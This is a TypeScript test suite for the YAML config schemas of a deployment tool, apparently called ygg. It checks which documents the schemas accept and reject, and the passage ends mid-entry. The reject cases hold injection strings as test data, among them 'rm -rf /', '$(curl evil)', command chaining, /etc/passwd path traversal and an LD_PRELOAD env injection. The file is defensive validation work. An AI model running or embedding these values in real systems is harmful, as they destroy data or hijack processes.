// The JSON Schemas in schemas/ are the first wall against bad YAML: they must accept the reference
// documents of DESIGN.md section 1 and reject, for the right reason, anything that could break out
// of a config file or a command line.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { Ajv2020 } from 'ajv/dist/2020.js';
import type { ErrorObject, ValidateFunction } from 'ajv/dist/2020.js';
import formatsModule from 'ajv-formats';
import { parse } from 'yaml';
import { DEFAULT_REPO_CONFIG } from '../../src/model/types.js';
import type { Kind } from '../../src/model/types.js';

// Under NodeNext the default import of this CommonJS package is its module.exports; the plugin is
// its .default (present at runtime too).
const addFormats = formatsModule.default;

const SCHEMA_FILES: Record<Kind, string> = {
  Repo: 'repo.schema.json',
  Host: 'host.schema.json',
  TreeNode: 'tree-node.schema.json',
  Job: 'job.schema.json',
  Service: 'service.schema.json',
  Zone: 'zone.schema.json',
};
const KINDS = Object.keys(SCHEMA_FILES) as Kind[];

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type JsonObject = { [key: string]: Json };

function readSchema(kind: Kind): JsonObject {
  const url = new URL(`../../schemas/${SCHEMA_FILES[kind]}`, import.meta.url);
  return JSON.parse(readFileSync(url, 'utf8')) as JsonObject;
}
const schemas = Object.fromEntries(KINDS.map((k) => [k, readSchema(k)])) as Record<Kind, JsonObject>;

// strictTuples is off: argv[0] is constrained with `prefixItems` while later elements stay open,
// which ajv's strictTuples rule forbids. Every other strict rule stays on.
const ajv = new Ajv2020({ allErrors: true, strict: true, strictTuples: false });
addFormats(ajv);
const validators = Object.fromEntries(KINDS.map((k) => [k, ajv.compile(schemas[k])])) as Record<Kind, ValidateFunction>;

const SHA_A = 'a'.repeat(64);
const SHA_B = '0123456789abcdef'.repeat(4);

// DESIGN.md section 1, verbatim except for the "<hex>" placeholders; Zone as example-repo/README.md documents it.
const REFERENCE_YAML: Record<Kind, string> = {
  Repo: `
apiVersion: ygg/v1
kind: Repo                        # ygg.yaml at the repo root; optional, these are the defaults
spec:
  etcdPrefix: /ygg/v1
  pruneGuard: { maxDeletePercent: 30 }   # refuse a commit that removes more instances than this
  rescheduleAfterSeconds: 300            # replicas of a lost host move after this long
`,
  Host: `
apiVersion: ygg/v1
kind: Host
metadata: { name: lg-im-01 }
spec:
  ip: 10.1.0.11
  labels: { idc: lg, rack: r01 }
  state: online                   # online | spare | maintenance (spare/maintenance get no jobs)
`,
  TreeNode: `
apiVersion: ygg/v1
kind: TreeNode
metadata:
  tag: cop.xiaomi_owt.miliao_pdl.im_cluster.production-lg
spec:
  owners: [im-ops]
  hosts: [lg-im-01, lg-im-02]     # or selector: { idc: lg }
`,
  Job: `
apiVersion: ygg/v1
kind: Job
metadata:
  name: alias-job-dispatcher      # unique in the repo
  tag: cop.xiaomi_owt.miliao_pdl.im_cluster.production-lg_service.mipush_job.alias-job-dispatcher
spec:
  version: 1.4.2
  artifact: { path: artifacts/dispatcher-1.4.2.tar.gz, sha256: "${SHA_A}" }   # path in the repo, or url
  command: [bin/dispatcher, --port, "{{ports.http}}"]   # argv, never a shell string
  env: { LOG_LEVEL: info }
  ports: { http: 8080 }
  configs:                        # rendered per instance, relative to the release dir
    - path: conf/app.yaml
      template: |
        listen: {{host.ip}}:{{ports.http}}
  dependencies:                   # dictionaries and other data files shipped with the job
    - { path: dict/words.txt, source: files/words.txt, sha256: "${SHA_B}" }
  cron:
    - { name: clean-logs, schedule: "0 * * * *", command: [find, "{{dirs.log}}", -mtime, "+7", -delete] }
  health: { http: { port: http, path: /health }, intervalSeconds: 5, timeoutSeconds: 2 }
  resources: { memoryMB: 512, cpu: 1 }
  replicas: 2                     # default: every online host of the job's tree node
  rollout: { maxParallel: 1, minHealthySeconds: 10, autoRevert: true }
`,
  Service: `
apiVersion: ygg/v1
kind: Service
metadata: { name: xiaomi.miliao.im.dispatcher }
spec:
  job: alias-job-dispatcher
  port: http
  vip:                            # optional: an LVS virtual server fed from live endpoints
    address: 10.1.100.10
    port: 80
    protocol: TCP
    lbAlgo: wrr
    lbKind: DR
    persistenceSeconds: 0
    check: { tcp: {}, connectTimeoutSeconds: 3, delayLoopSeconds: 6 }
  directors: [lg-lvs-01, lg-lvs-02]
`,
  Zone: `
apiVersion: ygg/v1
kind: Zone
metadata: { name: svc.example.test }
spec:
  ttlSeconds: 60
  soa: { hostmaster: hostmaster.example.test, refreshSeconds: 3600, retrySeconds: 600, expireSeconds: 604800, negativeTtlSeconds: 60 }
  nameServers:
    - { name: ns1.svc.example.test, addresses: [10.1.1.53, "2001:db8::53"] }
    - { name: ns.example.net }
  publish:
    - { service: xiaomi.miliao.im.dispatcher, name: dispatcher.im }
    - { service: "xiaomi.miliao.im.gateway.*", name: "gateway-*.im" }
    - { service: xiaomi.infra.search.suggest }
`,
};

/** A fresh, mutable copy of the parsed reference document of a kind. */
function reference(kind: Kind): Record<string, any> {
  return parse(REFERENCE_YAML[kind]) as Record<string, any>;
}

function validate(kind: Kind, doc: unknown): ErrorObject[] {
  const fn = validators[kind];
  return fn(doc) ? [] : [...(fn.errors ?? [])];
}

function describeErrors(errors: ErrorObject[]): string {
  return errors.map((e) => `${e.instancePath || '/'} ${e.keyword}: ${e.message ?? ''} ${JSON.stringify(e.params)}`).join('\n');
}

// ---------------------------------------------------------------------------------------------
// The schemas themselves

test('every schema declares draft 2020-12, its $id, a title, and the apiVersion/kind constants', () => {
  for (const kind of KINDS) {
    const s = schemas[kind];
    assert.equal(s.$schema, 'https://json-schema.org/draft/2020-12/schema');
    assert.equal(s.$id, `https://yggdrasil.dev/schemas/${SCHEMA_FILES[kind]}`);
    assert.equal(typeof s.title, 'string');
    assert.equal(typeof s.description, 'string');
    const props = s.properties as JsonObject;
    assert.deepEqual(Object.keys(props).sort(), ['apiVersion', 'kind', 'metadata', 'spec']);
    assert.equal((props.apiVersion as JsonObject).const, 'ygg/v1');
    assert.equal((props.kind as JsonObject).const, kind);
  }
});

/** Calls visit on every subschema, with its JSON pointer. */
function walk(node: Json, pointer: string, visit: (schema: JsonObject, pointer: string) => void): void {
  if (node === null || typeof node !== 'object' || Array.isArray(node)) return;
  visit(node, pointer);
  for (const [key, value] of Object.entries(node)) {
    if (key === 'const' || key === 'default' || key === 'enum') continue;
    if (key === 'properties' || key === '$defs') {
      for (const [name, sub] of Object.entries(value as JsonObject)) walk(sub, `${pointer}/${key}/${name}`, visit);
    } else if (Array.isArray(value)) {
      value.forEach((sub, i) => walk(sub, `${pointer}/${key}/${i}`, visit));
    } else if (typeof value === 'object') {
      walk(value, `${pointer}/${key}`, visit);
    }
  }
}

test('every object schema is closed: additionalProperties false, or a map with constrained keys and values', () => {
  for (const kind of KINDS) {
    walk(schemas[kind], '#', (s, pointer) => {
      if (s.type !== 'object') return;
      if (s.additionalProperties === false) return;
      const isMap = s.propertyNames !== undefined && typeof s.additionalProperties === 'object' && s.properties === undefined;
      const isRefToMap = typeof s.$ref === 'string' && s.additionalProperties === undefined && s.properties === undefined;
      assert.ok(isMap || isRefToMap, `${SCHEMA_FILES[kind]} ${pointer} is an open object`);
    });
  }
});

test('every property carries a description', () => {
  for (const kind of KINDS) {
    walk(schemas[kind], '#', (s, pointer) => {
      const props = s.properties;
      if (props === undefined || props === null || typeof props !== 'object' || Array.isArray(props)) return;
      for (const [name, sub] of Object.entries(props)) {
        if (sub === true) continue; // the `exactly one of` markers in oneOf branches
        assert.equal(typeof (sub as JsonObject).description, 'string', `${SCHEMA_FILES[kind]} ${pointer}/properties/${name} has no description`);
      }
    });
  }
});

test('shared definitions are identical in every schema that carries them', () => {
  const seen = new Map<string, { file: string; def: Json }>();
  for (const kind of KINDS) {
    for (const [name, def] of Object.entries((schemas[kind].$defs ?? {}) as JsonObject)) {
      const first = seen.get(name);
      if (first === undefined) seen.set(name, { file: SCHEMA_FILES[kind], def });
      else assert.deepEqual(def, first.def, `$defs/${name} differs between ${first.file} and ${SCHEMA_FILES[kind]}`);
    }
  }
});

test('the Repo schema documents the defaults of DEFAULT_REPO_CONFIG', () => {
  const spec = (schemas.Repo.properties as JsonObject).spec as JsonObject;
  const props = spec.properties as JsonObject;
  assert.equal((props.etcdPrefix as JsonObject).default, DEFAULT_REPO_CONFIG.etcdPrefix);
  assert.deepEqual((props.pruneGuard as JsonObject).default, DEFAULT_REPO_CONFIG.pruneGuard);
  assert.equal(
    ((props.pruneGuard as JsonObject).properties as JsonObject).maxDeletePercent !== undefined &&
      (((props.pruneGuard as JsonObject).properties as JsonObject).maxDeletePercent as JsonObject).default,
    DEFAULT_REPO_CONFIG.pruneGuard.maxDeletePercent,
  );
  assert.equal((props.rescheduleAfterSeconds as JsonObject).default, DEFAULT_REPO_CONFIG.rescheduleAfterSeconds);
  assert.equal((props.requireSignedCommits as JsonObject).default, DEFAULT_REPO_CONFIG.requireSignedCommits);
  const reschedule = props.reschedule as JsonObject;
  assert.deepEqual(reschedule.default, DEFAULT_REPO_CONFIG.reschedule);
  const limits = reschedule.properties as JsonObject;
  assert.deepEqual(
    Object.fromEntries(Object.entries(limits).map(([name, limit]) => [name, (limit as JsonObject).default])),
    DEFAULT_REPO_CONFIG.reschedule,
  );
});

// ---------------------------------------------------------------------------------------------
// Documents that must be accepted

for (const kind of KINDS) {
  test(`the DESIGN.md reference ${kind} document is valid`, () => {
    const errors = validate(kind, reference(kind));
    assert.deepEqual(errors, [], describeErrors(errors));
  });
}

interface GoodCase {
  readonly name: string;
  readonly kind: Kind;
  readonly doc: () => unknown;
}

function mutated(kind: Kind, change: (doc: Record<string, any>) => void): () => unknown {
  return () => {
    const doc = reference(kind);
    change(doc);
    return doc;
  };
}

const GOOD: readonly GoodCase[] = [
  { name: 'a bare Repo document', kind: 'Repo', doc: () => parse('apiVersion: ygg/v1\nkind: Repo\n') },
  { name: 'a Repo with empty spec and a description', kind: 'Repo', doc: () => parse('apiVersion: ygg/v1\nkind: Repo\nmetadata: { description: the prod repo }\nspec: {}\n') },
  { name: 'an IPv6 host without labels or state', kind: 'Host', doc: mutated('Host', (d) => { d.spec = { ip: 'fd00::11' }; }) },
  { name: 'a spare host with a description', kind: 'Host', doc: mutated('Host', (d) => { d.spec.state = 'spare'; d.metadata.description = 'rack r01, slot 3'; }) },
  { name: 'a tree node with a selector and no owners', kind: 'TreeNode', doc: mutated('TreeNode', (d) => { d.spec = { selector: { idc: 'lg' } }; }) },
  { name: 'a tree node at servicegroup level', kind: 'TreeNode', doc: mutated('TreeNode', (d) => { d.metadata.tag = 'cop.xiaomi_owt.miliao_pdl.im_cluster.production-lg_servicegroup.push'; }) },
  { name: 'a minimal job with a url artifact', kind: 'Job', doc: mutated('Job', (d) => {
    d.spec = { version: 'v2_rc-1+build.7', artifact: { url: 'https://artifacts.example.com/dispatcher-2.tar.gz', sha256: SHA_A }, command: ['/usr/bin/env'] };
  }) },
  { name: 'a job with exec and tcp-free health, @daily and 6-field cron, dependency by url, config mode', kind: 'Job', doc: mutated('Job', (d) => {
    d.spec.health = { exec: { command: ['bin/check', '--quick'] } };
    d.spec.cron.push({ name: 'rotate', schedule: '@daily', command: ['bin/rotate'], timeoutSeconds: 60 });
    d.spec.cron.push({ name: 'tick', schedule: '*/10 * * * * MON-FRI', command: ['bin/tick'] });
    d.spec.dependencies.push({ path: 'dict/big.bin', url: 'file:///srv/dicts/big.bin', sha256: SHA_B });
    d.spec.configs[0].mode = '0640';
    d.spec.env.EMPTY = '';
    d.spec.env.MSG = 'tabs are control chars but spaces, "quotes" and {braces} are fine here';
  }) },
  { name: 'a job with a tcp health check and fractional cpu', kind: 'Job', doc: mutated('Job', (d) => {
    d.spec.health = { tcp: { port: 'http' } };
    d.spec.resources = { cpu: 0.5 };
  }) },
  { name: 'a job whose http health check probes its own address (IPv4)', kind: 'Job', doc: mutated('Job', (d) => { d.spec.health.http.host = '127.0.0.1'; }) },
  { name: 'a job whose tcp health check probes its own address (IPv6)', kind: 'Job', doc: mutated('Job', (d) => { d.spec.health = { tcp: { port: 'http', host: 'fd00::11' } }; }) },
  { name: 'a service without a VIP', kind: 'Service', doc: mutated('Service', (d) => { d.spec = { job: 'alias-job-dispatcher', port: 'http' }; }) },
  { name: 'a service with an http check, sorry server, UDP and defaults left out', kind: 'Service', doc: mutated('Service', (d) => {
    d.spec.vip = {
      address: '10.1.100.10', port: 53, protocol: 'UDP',
      check: { http: { path: '/health/deep', statusCode: 204 } },
      sorryServer: { address: '10.1.0.99', port: 8080 },
    };
  }) },
  { name: 'a service whose VIP has no check (defaults to tcp)', kind: 'Service', doc: mutated('Service', (d) => { delete d.spec.vip.check; }) },
  { name: 'a zone with defaults left out and nothing published', kind: 'Zone', doc: mutated('Zone', (d) => { d.spec = { nameServers: [{ name: 'ns.example.net' }], publish: [] }; }) },
];

for (const c of GOOD) {
  test(`accepts ${c.kind}: ${c.name}`, () => {
    const errors = validate(c.kind, c.doc());
    assert.deepEqual(errors, [], describeErrors(errors));
  });
}

// ---------------------------------------------------------------------------------------------
// Documents that must be rejected, each for the expected reason

interface BadCase {
  readonly name: string;
  readonly kind: Kind;
  readonly doc: () => unknown;
  /** The error that must be among the reported ones. */
  readonly keyword: string;
  readonly instancePath: string;
  readonly params?: Record<string, unknown>;
}

const BAD: readonly BadCase[] = [
  // unknown fields
  { name: 'unknown spec field (typo)', kind: 'Job', doc: mutated('Job', (d) => { d.spec.replica = 2; }),
    keyword: 'additionalProperties', instancePath: '/spec', params: { additionalProperty: 'replica' } },
  { name: 'unknown top-level field', kind: 'Host', doc: mutated('Host', (d) => { d.status = {}; }),
    keyword: 'additionalProperties', instancePath: '', params: { additionalProperty: 'status' } },
  { name: 'labels in metadata', kind: 'Host', doc: mutated('Host', (d) => { d.metadata.labels = { a: 'b' }; }),
    keyword: 'additionalProperties', instancePath: '/metadata', params: { additionalProperty: 'labels' } },
  { name: 'unknown field deep inside vip.check', kind: 'Service', doc: mutated('Service', (d) => { d.spec.vip.check.retries = 3; }),
    keyword: 'additionalProperties', instancePath: '/spec/vip/check', params: { additionalProperty: 'retries' } },
  { name: 'options on vip.check.tcp', kind: 'Service', doc: mutated('Service', (d) => { d.spec.vip.check.tcp = { port: 80 }; }),
    keyword: 'additionalProperties', instancePath: '/spec/vip/check/tcp', params: { additionalProperty: 'port' } },
  { name: 'unknown field in a cron task', kind: 'Job', doc: mutated('Job', (d) => { d.spec.cron[0].user = 'root'; }),
    keyword: 'additionalProperties', instancePath: '/spec/cron/0', params: { additionalProperty: 'user' } },

  // shell strings
  { name: 'command as a shell string', kind: 'Job', doc: mutated('Job', (d) => { d.spec.command = 'bin/dispatcher --port 8080'; }),
    keyword: 'type', instancePath: '/spec/command' },
  { name: 'command argv[0] is a shell line', kind: 'Job', doc: mutated('Job', (d) => { d.spec.command = ["sh -c 'rm -rf /'"]; }),
    keyword: 'pattern', instancePath: '/spec/command/0' },
  { name: 'command argv[0] with a ; chain', kind: 'Job', doc: mutated('Job', (d) => { d.spec.command = ['bin/dispatcher;reboot']; }),
    keyword: 'pattern', instancePath: '/spec/command/0' },
  { name: 'command argv[0] with command substitution', kind: 'Job', doc: mutated('Job', (d) => { d.spec.command = ['$(curl evil)']; }),
    keyword: 'pattern', instancePath: '/spec/command/0' },
  { name: 'command argv[0] is a template', kind: 'Job', doc: mutated('Job', (d) => { d.spec.command = ['{{dirs.release}}/bin/x']; }),
    keyword: 'pattern', instancePath: '/spec/command/0' },
  { name: 'empty command', kind: 'Job', doc: mutated('Job', (d) => { d.spec.command = []; }),
    keyword: 'minItems', instancePath: '/spec/command' },
  { name: 'command argument with a newline', kind: 'Job', doc: mutated('Job', (d) => { d.spec.command = ['bin/x', 'a\nb']; }),
    keyword: 'pattern', instancePath: '/spec/command/1' },
  { name: 'cron command as a pipeline', kind: 'Job', doc: mutated('Job', (d) => { d.spec.cron[0].command = ['find /x | xargs rm']; }),
    keyword: 'pattern', instancePath: '/spec/cron/0/command/0' },
  { name: 'exec health command as a shell string', kind: 'Job', doc: mutated('Job', (d) => { d.spec.health = { exec: { command: 'curl -f localhost' } }; }),
    keyword: 'type', instancePath: '/spec/health/exec/command' },

  // addresses
  { name: 'IPv4 octet out of range', kind: 'Host', doc: mutated('Host', (d) => { d.spec.ip = '10.1.0.256'; }),
    keyword: 'anyOf', instancePath: '/spec/ip' },
  { name: 'a hostname instead of an IP', kind: 'Host', doc: mutated('Host', (d) => { d.spec.ip = 'lg-im-01.example.com'; }),
    keyword: 'anyOf', instancePath: '/spec/ip' },
  { name: 'IP with trailing config injection', kind: 'Service', doc: mutated('Service', (d) => { d.spec.vip.address = '10.1.100.10 80 }\nvirtual_server 1.2.3.4'; }),
    keyword: 'anyOf', instancePath: '/spec/vip/address' },
  { name: 'IPv6 with a zone index', kind: 'Host', doc: mutated('Host', (d) => { d.spec.ip = 'fe80::1%eth0'; }),
    keyword: 'anyOf', instancePath: '/spec/ip' },
  { name: 'a hostname as the health check host', kind: 'Job', doc: mutated('Job', (d) => { d.spec.health.http.host = 'localhost'; }),
    keyword: 'anyOf', instancePath: '/spec/health/http/host' },
  { name: 'a host on an exec health check', kind: 'Job', doc: mutated('Job', (d) => { d.spec.health = { exec: { command: ['bin/check'], host: '127.0.0.1' } }; }),
    keyword: 'additionalProperties', instancePath: '/spec/health/exec', params: { additionalProperty: 'host' } },

  // cron
  { name: 'cron schedule with shell chars', kind: 'Job', doc: mutated('Job', (d) => { d.spec.cron[0].schedule = '0 * * * *; rm -rf /'; }),
    keyword: 'pattern', instancePath: '/spec/cron/0/schedule' },
  { name: 'cron schedule with 4 fields', kind: 'Job', doc: mutated('Job', (d) => { d.spec.cron[0].schedule = '0 * * *'; }),
    keyword: 'pattern', instancePath: '/spec/cron/0/schedule' },
  { name: 'cron @reboot', kind: 'Job', doc: mutated('Job', (d) => { d.spec.cron[0].schedule = '@reboot'; }),
    keyword: 'pattern', instancePath: '/spec/cron/0/schedule' },
  { name: 'cron task name with a space', kind: 'Job', doc: mutated('Job', (d) => { d.spec.cron[0].name = 'clean logs'; }),
    keyword: 'pattern', instancePath: '/spec/cron/0/name' },

  // digests, versions
  { name: 'short sha256', kind: 'Job', doc: mutated('Job', (d) => { d.spec.artifact.sha256 = 'abc123'; }),
    keyword: 'pattern', instancePath: '/spec/artifact/sha256' },
  { name: 'uppercase sha256', kind: 'Job', doc: mutated('Job', (d) => { d.spec.dependencies[0].sha256 = 'A'.repeat(64); }),
    keyword: 'pattern', instancePath: '/spec/dependencies/0/sha256' },
  { name: 'version read by YAML as a number', kind: 'Job', doc: mutated('Job', (d) => { d.spec.version = parse('1.4'); }),
    keyword: 'type', instancePath: '/spec/version' },
  { name: 'version with a space', kind: 'Job', doc: mutated('Job', (d) => { d.spec.version = '1.4 beta'; }),
    keyword: 'pattern', instancePath: '/spec/version' },

  // tags and names
  { name: 'job tag without a job level', kind: 'Job', doc: mutated('Job', (d) => { d.metadata.tag = 'cop.xiaomi_owt.miliao_pdl.im_cluster.production-lg_service.mipush'; }),
    keyword: 'pattern', instancePath: '/metadata/tag' },
  { name: 'tree node tag with an unknown level', kind: 'TreeNode', doc: mutated('TreeNode', (d) => { d.metadata.tag = 'cop.xiaomi_team.im'; }),
    keyword: 'pattern', instancePath: '/metadata/tag' },
  { name: 'tag not starting at cop', kind: 'TreeNode', doc: mutated('TreeNode', (d) => { d.metadata.tag = 'owt.miliao'; }),
    keyword: 'pattern', instancePath: '/metadata/tag' },
  { name: 'tag with uppercase', kind: 'TreeNode', doc: mutated('TreeNode', (d) => { d.metadata.tag = 'cop.Xiaomi'; }),
    keyword: 'pattern', instancePath: '/metadata/tag' },
  { name: 'job without a tag', kind: 'Job', doc: mutated('Job', (d) => { delete d.metadata.tag; }),
    keyword: 'required', instancePath: '/metadata', params: { missingProperty: 'tag' } },
  { name: 'host name too long', kind: 'Host', doc: mutated('Host', (d) => { d.metadata.name = 'a'.repeat(64); }),
    keyword: 'pattern', instancePath: '/metadata/name' },
  { name: 'host name with a slash', kind: 'Host', doc: mutated('Host', (d) => { d.metadata.name = 'lg/im-01'; }),
    keyword: 'pattern', instancePath: '/metadata/name' },
  { name: 'service name with an empty label', kind: 'Service', doc: mutated('Service', (d) => { d.metadata.name = 'xiaomi..im'; }),
    keyword: 'pattern', instancePath: '/metadata/name' },
  { name: 'service name longer than 253', kind: 'Service', doc: mutated('Service', (d) => { d.metadata.name = Array(64).fill('abcd').join('.'); }),
    keyword: 'maxLength', instancePath: '/metadata/name' },
  { name: 'owner with a space', kind: 'TreeNode', doc: mutated('TreeNode', (d) => { d.spec.owners = ['im ops']; }),
    keyword: 'pattern', instancePath: '/spec/owners/0' },
  { name: 'multi-line metadata description', kind: 'Job', doc: mutated('Job', (d) => { d.metadata.description = 'one\ntwo'; }),
    keyword: 'pattern', instancePath: '/metadata/description' },

  // paths
  { name: 'config path traversal ../x', kind: 'Job', doc: mutated('Job', (d) => { d.spec.configs[0].path = '../x'; }),
    keyword: 'pattern', instancePath: '/spec/configs/0/path' },
  { name: 'artifact path traversal in the middle', kind: 'Job', doc: mutated('Job', (d) => { d.spec.artifact.path = 'artifacts/../../etc/passwd'; }),
    keyword: 'pattern', instancePath: '/spec/artifact/path' },
  { name: 'dependency source traversal at the end', kind: 'Job', doc: mutated('Job', (d) => { d.spec.dependencies[0].source = 'files/..'; }),
    keyword: 'pattern', instancePath: '/spec/dependencies/0/source' },
  { name: 'absolute artifact path', kind: 'Job', doc: mutated('Job', (d) => { d.spec.artifact.path = '/etc/passwd'; }),
    keyword: 'pattern', instancePath: '/spec/artifact/path' },
  { name: 'absolute dependency path', kind: 'Job', doc: mutated('Job', (d) => { d.spec.dependencies[0].path = '/var/lib/x'; }),
    keyword: 'pattern', instancePath: '/spec/dependencies/0/path' },
  { name: 'backslash in a config path', kind: 'Job', doc: mutated('Job', (d) => { d.spec.configs[0].path = 'conf\\..\\..\\x'; }),
    keyword: 'pattern', instancePath: '/spec/configs/0/path' },
  { name: 'path with a NUL byte', kind: 'Job', doc: mutated('Job', (d) => { d.spec.configs[0].path = 'conf/app.yaml\u0000.sh'; }),
    keyword: 'pattern', instancePath: '/spec/configs/0/path' },
  { name: 'path segment that looks like an option', kind: 'Job', doc: mutated('Job', (d) => { d.spec.artifact.path = '-rf'; }),
    keyword: 'pattern', instancePath: '/spec/artifact/path' },
  { name: 'artifact url with an unsupported scheme', kind: 'Job', doc: mutated('Job', (d) => { d.spec.artifact = { url: 'ftp://x/y', sha256: SHA_A }; }),
    keyword: 'pattern', instancePath: '/spec/artifact/url' },
  { name: 'artifact url with whitespace', kind: 'Job', doc: mutated('Job', (d) => { d.spec.artifact = { url: 'https://x/y z', sha256: SHA_A }; }),
    keyword: 'pattern', instancePath: '/spec/artifact/url' },
  { name: 'artifact with both path and url', kind: 'Job', doc: mutated('Job', (d) => { d.spec.artifact.url = 'https://x/y'; }),
    keyword: 'oneOf', instancePath: '/spec/artifact' },
  { name: 'dependency with neither source nor url', kind: 'Job', doc: mutated('Job', (d) => { delete d.spec.dependencies[0].source; }),
    keyword: 'oneOf', instancePath: '/spec/dependencies/0' },

  // apiVersion, kind
  { name: 'wrong apiVersion', kind: 'Host', doc: mutated('Host', (d) => { d.apiVersion = 'ygg/v2'; }),
    keyword: 'const', instancePath: '/apiVersion' },
  { name: 'missing apiVersion', kind: 'Repo', doc: mutated('Repo', (d) => { delete d.apiVersion; }),
    keyword: 'required', instancePath: '', params: { missingProperty: 'apiVersion' } },
  { name: 'a Host document checked against the Job schema', kind: 'Job', doc: () => ({ ...reference('Job'), kind: 'Host' }),
    keyword: 'const', instancePath: '/kind' },

  // ports
  { name: 'port 70000', kind: 'Job', doc: mutated('Job', (d) => { d.spec.ports.http = 70000; }),
    keyword: 'maximum', instancePath: '/spec/ports/http' },
  { name: 'port 0', kind: 'Job', doc: mutated('Job', (d) => { d.spec.ports.http = 0; }),
    keyword: 'minimum', instancePath: '/spec/ports/http' },
  { name: 'fractional port', kind: 'Job', doc: mutated('Job', (d) => { d.spec.ports.http = 80.5; }),
    keyword: 'type', instancePath: '/spec/ports/http' },
  { name: 'VIP port 70000', kind: 'Service', doc: mutated('Service', (d) => { d.spec.vip.port = 70000; }),
    keyword: 'maximum', instancePath: '/spec/vip/port' },
  { name: 'port name with uppercase', kind: 'Job', doc: mutated('Job', (d) => { d.spec.ports = { HTTP: 8080 }; }),
    keyword: 'pattern', instancePath: '/spec/ports', params: { pattern: '^[a-z][a-z0-9-]{0,14}$' } },
  { name: 'service port given as a number', kind: 'Service', doc: mutated('Service', (d) => { d.spec.port = 8080; }),
    keyword: 'type', instancePath: '/spec/port' },
  { name: 'health port given as a number', kind: 'Job', doc: mutated('Job', (d) => { d.spec.health.http.port = 8080; }),
    keyword: 'type', instancePath: '/spec/health/http/port' },

  // labels, env
  { name: 'label value with a quote', kind: 'Host', doc: mutated('Host', (d) => { d.spec.labels.idc = 'lg"x'; }),
    keyword: 'pattern', instancePath: '/spec/labels/idc' },
  { name: 'label value with a newline', kind: 'Host', doc: mutated('Host', (d) => { d.spec.labels.rack = 'r01\nstate: spare'; }),
    keyword: 'pattern', instancePath: '/spec/labels/rack' },
  { name: 'label value read by YAML as a number', kind: 'Host', doc: mutated('Host', (d) => { d.spec.labels.rack = parse('01'); }),
    keyword: 'type', instancePath: '/spec/labels/rack' },
  { name: 'label key with a brace', kind: 'Host', doc: mutated('Host', (d) => { d.spec.labels['idc}'] = 'lg'; }),
    keyword: 'propertyNames', instancePath: '/spec/labels', params: { propertyName: 'idc}' } },
  { name: 'selector value with whitespace', kind: 'TreeNode', doc: mutated('TreeNode', (d) => { d.spec = { selector: { idc: 'lg lg2' } }; }),
    keyword: 'pattern', instancePath: '/spec/selector/idc' },
  { name: 'empty selector', kind: 'TreeNode', doc: mutated('TreeNode', (d) => { d.spec = { selector: {} }; }),
    keyword: 'minProperties', instancePath: '/spec/selector' },
  { name: 'env value with a newline', kind: 'Job', doc: mutated('Job', (d) => { d.spec.env.LOG_LEVEL = 'info\nLD_PRELOAD=/tmp/x.so'; }),
    keyword: 'pattern', instancePath: '/spec/env/LOG_LEVEL' },
  { name: 'env value read by YAML as a number', kind: 'Job', doc: mutated('Job', (d) => { d.spec.env.WORKERS = 4; }),
    keyword: 'type', instancePath: '/spec/env/WORKERS' },
  { name: 'env name with "="', kind: 'Job', doc: mutated('Job', (d) => { d.spec.env['A=B'] = 'x'; }),
    keyword: 'propertyNames', instancePath: '/spec/env', params: { propertyName: 'A=B' } },

  // exactly-one-of
  { name: 'tree node with both hosts and selector', kind: 'TreeNode', doc: mutated('TreeNode', (d) => { d.spec.selector = { idc: 'lg' }; }),
    keyword: 'oneOf', instancePath: '/spec', params: { passingSchemas: [0, 1] } },
  { name: 'tree node with neither hosts nor selector', kind: 'TreeNode', doc: mutated('TreeNode', (d) => { delete d.spec.hosts; }),
    keyword: 'oneOf', instancePath: '/spec', params: { passingSchemas: null } },
  { name: 'health with both http and tcp', kind: 'Job', doc: mutated('Job', (d) => { d.spec.health.tcp = { port: 'http' }; }),
    keyword: 'oneOf', instancePath: '/spec/health' },
  { name: 'vip check with both tcp and http', kind: 'Service', doc: mutated('Service', (d) => { d.spec.vip.check.http = { path: '/health' }; }),
    keyword: 'oneOf', instancePath: '/spec/vip/check' },
  { name: 'vip check with only timeouts', kind: 'Service', doc: mutated('Service', (d) => { delete d.spec.vip.check.tcp; }),
    keyword: 'oneOf', instancePath: '/spec/vip/check' },

  // service / vip
  // A vip without directors is a cross-check of the loader (directors default to []).
  { name: 'unknown lbAlgo', kind: 'Service', doc: mutated('Service', (d) => { d.spec.vip.lbAlgo = 'fo'; }),
    keyword: 'enum', instancePath: '/spec/vip/lbAlgo' },
  { name: 'lowercase protocol', kind: 'Service', doc: mutated('Service', (d) => { d.spec.vip.protocol = 'tcp'; }),
    keyword: 'enum', instancePath: '/spec/vip/protocol' },
  { name: 'http check path with a brace and space', kind: 'Service', doc: mutated('Service', (d) => { d.spec.vip.check = { http: { path: '/x }\n  digest 0' } }; }),
    keyword: 'pattern', instancePath: '/spec/vip/check/http/path' },
  { name: 'http check path not starting with /', kind: 'Service', doc: mutated('Service', (d) => { d.spec.vip.check = { http: { path: 'health' } }; }),
    keyword: 'pattern', instancePath: '/spec/vip/check/http/path' },
  { name: 'http check path with a query string (the renderer refuses it)', kind: 'Service', doc: mutated('Service', (d) => { d.spec.vip.check = { http: { path: '/health?deep=1' } }; }),
    keyword: 'pattern', instancePath: '/spec/vip/check/http/path' },
  { name: 'a service name label longer than 63 characters (DNS, the renderer)', kind: 'Service', doc: mutated('Service', (d) => { d.metadata.name = `xiaomi.${'a'.repeat(64)}.im`; }),
    keyword: 'pattern', instancePath: '/metadata/name' },

  // misc numbers and enums
  { name: 'unknown host state', kind: 'Host', doc: mutated('Host', (d) => { d.spec.state = 'offline'; }),
    keyword: 'enum', instancePath: '/spec/state' },
  { name: 'maxDeletePercent 150', kind: 'Repo', doc: mutated('Repo', (d) => { d.spec.pruneGuard.maxDeletePercent = 150; }),
    keyword: 'maximum', instancePath: '/spec/pruneGuard/maxDeletePercent' },
  { name: 'reschedule.maxHostsPercentPerMinute 0', kind: 'Repo', doc: mutated('Repo', (d) => { d.spec.reschedule = { maxHostsPercentPerMinute: 0 }; }),
    keyword: 'exclusiveMinimum', instancePath: '/spec/reschedule/maxHostsPercentPerMinute' },
  { name: 'reschedule.unhealthyIdcThresholdPercent 120', kind: 'Repo', doc: mutated('Repo', (d) => { d.spec.reschedule = { unhealthyIdcThresholdPercent: 120 }; }),
    keyword: 'maximum', instancePath: '/spec/reschedule/unhealthyIdcThresholdPercent' },
  { name: 'relative etcdPrefix', kind: 'Repo', doc: mutated('Repo', (d) => { d.spec.etcdPrefix = 'ygg'; }),
